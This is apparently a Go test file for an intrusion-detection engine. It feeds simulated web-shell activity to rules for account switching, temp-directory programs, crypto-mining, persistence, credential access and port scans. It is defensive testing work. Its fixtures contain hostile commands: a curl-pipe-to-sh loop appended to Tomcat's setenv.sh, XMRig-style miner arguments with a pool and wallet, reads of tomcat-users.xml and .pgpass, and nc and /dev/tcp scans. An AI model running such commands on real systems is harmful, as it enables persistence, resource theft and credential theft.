package detect

import (
	"slices"
	"strings"
	"testing"

	"github.com/auditchain/auditchain/parser"
)

// TestAccountSwitchTempProgramMiner: the three acts the Tomcat capture's
// beacon ran, and their innocent neighbours. The web account (uid 33
// here) runs them inside a web shell (pid 201, a shell under the php-fpm
// worker 200); the admin's su runs in an ssh session.
func TestAccountSwitchTempProgramMiner(t *testing.T) {
	for _, c := range []struct {
		name  string
		uid   uint32
		exe   string
		args  []string
		rule  string // "" for no finding of these rules
		stage Stage
		title string
	}{
		{"su to another account", 33, "/usr/bin/su", []string{"su", "-", "deploy", "-c", "id"}, "lateral-remote-access-from-web", StageLateralMovement, "Account Switched"},
		{"an admin's su, outside the web server", 0, "/usr/bin/su", []string{"su", "-", "deploy"}, "", 0, ""},
		{"a kernel-named program in /var/tmp", 33, "/var/tmp/.kswapd0", []string{"/var/tmp/.kswapd0", "--threads", "2"}, "temp-program-web", StageSuspiciousSpawn, "Kernel-Named"},
		{"a script run from /tmp", 33, "/usr/bin/dash", []string{"/bin/sh", "/tmp/.sysd"}, "temp-program-web", StageSuspiciousSpawn, ""},
		{"a Tcl script run from /dev/shm", 33, "/usr/bin/tclsh8.6", []string{"tclsh", "/dev/shm/.t"}, "temp-program-web", StageSuspiciousSpawn, ""},
		{"an awk program file in /tmp", 33, "/usr/bin/gawk", []string{"gawk", "-f", "/tmp/x.awk"}, "temp-program-web", StageSuspiciousSpawn, ""},
		{"awk reading a file in /tmp", 33, "/usr/bin/gawk", []string{"awk", "{print $1}", "/tmp/orders.csv"}, "", 0, ""},
		{"a system program naming /tmp", 33, "/usr/bin/ls", []string{"ls", "/tmp/"}, "", 0, ""},
		{"a mining pool", 33, "/usr/local/bin/worker", []string{"worker", "--url", "stratum+tcp://198.51.100.4:3333", "--threads", "2"}, "resource-hijacking", StageExfiltrationImpact, ""},
		// XMRig's own options with a pool, under any name, and a Monero
		// wallet as the pool user: no scheme in the command line
		{"xmrig options", 33, "/dev/shm/.k/kworkerds", []string{"./kworkerds", "-o", "198.51.100.4:3333", "-u", "x", "-k", "--cpu-max-threads-hint=30"}, "resource-hijacking", StageExfiltrationImpact, ""},
		{"a monero wallet", 33, "/var/tmp/.x", []string{"./.x", "-o", "198.51.100.4:443", "-u", "4" + strings.Repeat("8AdUndXHHZ6cfufTMvppY6JwXNouMBzS", 3)[:94], "-p", "w1"}, "resource-hijacking", StageExfiltrationImpact, ""},
		{"an app's own -o and -u", 33, "/usr/bin/curl", []string{"curl", "-o", "/tmp/x", "-u", "svc:token", "https://api.example.com/v1/export"}, "", 0, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			var got *Finding
			for _, f := range execAs(t, c.uid, "/tmp", c.exe, c.args...) {
				for _, id := range f.RuleIDs {
					if id == c.rule || c.rule == "" && (id == "lateral-remote-access-from-web" || id == "temp-program-web" || id == "resource-hijacking") {
						got = f
					}
				}
			}
			switch {
			case c.rule == "" && got != nil:
				t.Fatalf("%s fired (%s)", got.RuleID, got.Title)
			case c.rule == "":
			case got == nil:
				t.Fatalf("%s did not fire", c.rule)
			case got.Stage != c.stage:
				t.Errorf("stage %v, want %v", got.Stage, c.stage)
			case !strings.Contains(got.Title, c.title):
				t.Errorf("title %q, want it to say %q", got.Title, c.title)
			}
		})
	}
}

// TestServiceStartAndCredentialStores: a line appended to a service's
// start-up script is persistence; reading a server's credential store is
// credential access (a suspicious spawn), by the file's fixed name.
func TestServiceStartAndCredentialStores(t *testing.T) {
	for _, c := range []struct {
		cmd   string
		stage Stage
	}{
		{`echo '(setsid sh -c "while :; do curl -fsS http://198.51.100.4/u | sh; sleep 300; done" &)' >> /srv/app/tomcat/bin/setenv.sh`, StagePersistence},
		{"cat /srv/app/tomcat/conf/tomcat-users.xml", StageSuspiciousSpawn},
		{"cat /home/app/.pgpass", StageSuspiciousSpawn},
	} {
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		s := newSynth()
		s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
		var got *Finding
		for _, f := range e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", c.cmd), s.tree) {
			if f.RuleID == "web-server-exploitation" || got == nil {
				got = f
			}
		}
		if got == nil || got.Stage != c.stage {
			t.Errorf("%q: %v, want a finding on stage %v", c.cmd, got, c.stage)
		}
	}
	// the write itself, when the script is watched
	e, s := webShellScene(t)
	fs := e.Observe(s.file(parser.KindFileWrite, 201, 200, 33, "/usr/bin/dash", "/srv/app/tomcat/bin/setenv.sh", true), s.tree)
	if findingOf(fs, "web-persistence-file-write") == nil {
		t.Errorf("setenv.sh written by the web account: %d findings, none of web-persistence-file-write", len(fs))
	}
}

// TestScanIsNotAReverseShell: a scan run with nc or /dev/tcp matches the
// reverse-shell and exploitation rules by its tools; what the command
// does decides what the act is called.
func TestScanIsNotAReverseShell(t *testing.T) {
	for _, cmd := range []string{
		"for p in 21 22 25 80 443 3306; do (echo > /dev/tcp/10.0.0.5/$p) 2>/dev/null && echo $p; done",
		"nc -z -v -w 1 10.0.0.5 20-25 80 443 3306",
	} {
		e, err := New(Options{})
		if err != nil {
			t.Fatal(err)
		}
		s := newSynth()
		s.exec(200, 1, 33, "www-data", "/var/www", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
		fs := e.Observe(s.exec(201, 200, 33, "www-data", "/var/www", "/usr/bin/dash", "sh", "-c", cmd), s.tree)
		if len(fs) == 0 {
			t.Fatalf("%q: no finding", cmd)
		}
		for _, f := range fs {
			if f.Title != scanTitle || slices.Contains(f.Attack, "T1095") || !slices.Contains(f.Attack, "T1046") {
				t.Errorf("%q: %s %q %v, want %q with T1046 and not T1095", cmd, f.RuleID, f.Title, f.Attack, scanTitle)
			}
		}
	}
}
